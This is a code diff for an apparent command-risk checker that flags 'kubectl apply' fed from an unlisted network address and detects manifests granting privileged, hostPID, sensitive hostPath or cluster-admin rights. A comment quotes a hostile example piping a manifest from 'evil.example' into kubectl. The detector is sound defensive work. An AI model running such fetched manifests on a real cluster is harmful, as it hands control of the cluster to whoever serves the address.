@@ -6,6 +6,27 @@ import type { Behaviour } from '../behaviour.ts';
 const GRANTS =
   /\bprivileged["']?:\s*true|\bhostPID["']?:\s*true|\bhostPath["']?:\s*\{?\s*["']?path["']?:\s*["']?\/(?:["'\s}]|etc\b|root\b|var\/run\/docker|run\/containerd|var\/lib\/kubelet|$)|\bname["']?:\s*["']?cluster-admin\b/;
 
+/** Where projects publish the manifests that their install pages name. */
+const PUBLISHED =
+  /https:\/\/(?:github\.com|raw\.githubusercontent\.com|k8s\.io|kubernetes\.io|storage\.googleapis\.com|docs\.projectcalico\.org)\/|localhost|127\./;
+
+/** `curl https://evil.example/x.yaml | kubectl apply -f -` */
+export const fetchedManifest: Behaviour = {
+  effects: (command, args) =>
+    /^(apply|create|replace)$/.test(args.operands[0]?.text ?? '') &&
+    command.stdin?.origins.some((o) => o.kind === 'network' && !PUBLISHED.test(o.what))
+      ? [
+          effect(command, {
+            kind: 'infrastructure',
+            weight: 'risky',
+            code: 'kube-apply-url',
+            reason: 'Applies whatever that address answers to the cluster.',
+            safer: 'download the file, read it, then kubectl diff -f FILE',
+          }),
+        ]
+      : [],
+};
+
 /** `kubectl apply -f -`: the rights that the manifest on the input gives. A file written before is read like the input. */
 export const readsManifest: Behaviour = {
   effects: (command) =>
